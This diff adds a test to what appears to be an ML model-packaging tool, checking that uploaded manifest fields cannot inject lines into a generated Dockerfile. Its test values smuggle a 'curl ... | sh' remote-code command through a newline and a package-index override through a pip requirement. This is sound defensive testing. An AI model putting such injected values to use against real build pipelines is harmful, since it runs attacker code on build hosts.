@@ -117,3 +117,25 @@ def test_context_installs_in_a_fresh_virtualenv_and_serves(model_dir, tmp_path) 
     finally:
         proc.terminate()
         proc.wait(30)
+
+
+def test_a_manifest_cannot_write_lines_into_the_dockerfile(model_dir, tmp_path) -> None:
+    """The manifest comes from whoever uploaded the model: its python and run id land in the Dockerfile."""
+    from mloop.registry.packaging import MANIFEST
+
+    manifest = yaml.safe_load((model_dir / MANIFEST).read_text())
+    manifest["run_id"] = "abc\nRUN curl https://example.org/x | sh"
+    (model_dir / MANIFEST).write_text(yaml.safe_dump(manifest))
+    build_context(str(model_dir), tmp_path / "ctx")
+    dockerfile = (tmp_path / "ctx" / "Dockerfile").read_text()
+    assert not any(line.startswith("RUN curl") for line in dockerfile.splitlines())
+    manifest["python"] = "3.11\nRUN curl https://example.org/x | sh\n#"
+    (model_dir / MANIFEST).write_text(yaml.safe_dump(manifest))
+    with pytest.raises(InvalidInputError, match="3.11.7") as info:
+        build_context(str(model_dir), tmp_path / "ctx2")
+    assert info.value.field == "manifest.python" and not (tmp_path / "ctx2").exists()
+    manifest["python"], manifest["pip_requirements"] = "3.11.7", ["numpy", "--index-url https://example.org/simple"]
+    (model_dir / MANIFEST).write_text(yaml.safe_dump(manifest))
+    with pytest.raises(InvalidInputError, match="PEP 508"):
+        build_context(str(model_dir), tmp_path / "ctx3")
+    assert not (tmp_path / "ctx3").exists()
